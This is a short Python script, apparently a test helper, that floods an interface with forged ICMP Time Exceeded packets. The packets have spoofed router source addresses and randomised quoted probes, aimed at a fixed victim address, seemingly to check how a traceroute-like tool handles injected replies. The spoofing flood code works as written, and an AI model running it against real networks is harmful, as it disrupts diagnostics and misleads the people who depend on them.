#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Sends forged Time Exceeded: quotations shaped like probes of ours, with random tags.

usage: flood.py INTERFACE DESTINATION_MAC COUNT
"""

import random
import socket
import sys
import time

import packets

VICTIM = "44.0.0.1"
ROUTERS = "44.200.0.0"

# A veth takes 256 frames until its other end has had its turn; real replies need some of that.
BURST = 32
PAUSE_SECONDS = 0.001


def forged_quotation(random_bits):
    ttl = random_bits.randrange(1, 33)
    return packets.ipv4(
        packets.udp(random_bits.randrange(32768, 65536), 33434 + random_bits.randrange(4), bytes(1 + ttl)),
        source=VICTIM,
        destination=f"44.1.{random_bits.randrange(256)}.{random_bits.randrange(256)}",
        protocol=socket.IPPROTO_UDP,
        ttl=1,
        identification=random_bits.randrange(1, 65536),
    )


def forged_frame(macs, random_bits):
    error = packets.icmp(packets.TIME_EXCEEDED, 0, forged_quotation(random_bits)[:28])
    responder = packets.address(packets.number(ROUTERS) + random_bits.randrange(65536))
    return macs + packets.ETHERTYPE_IPV4 + packets.ipv4(error, responder, VICTIM, socket.IPPROTO_ICMP)


def main(interface, destination_mac, count):
    random_bits = random.Random(1)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((interface, 0))
        macs = bytes.fromhex(destination_mac.replace(":", "")) + out.getsockname()[4]
        for sent in range(int(count)):
            out.send(forged_frame(macs, random_bits))
            if sent % BURST == 0:
                time.sleep(PAUSE_SECONDS)


if __name__ == "__main__":
    main(*sys.argv[1:])
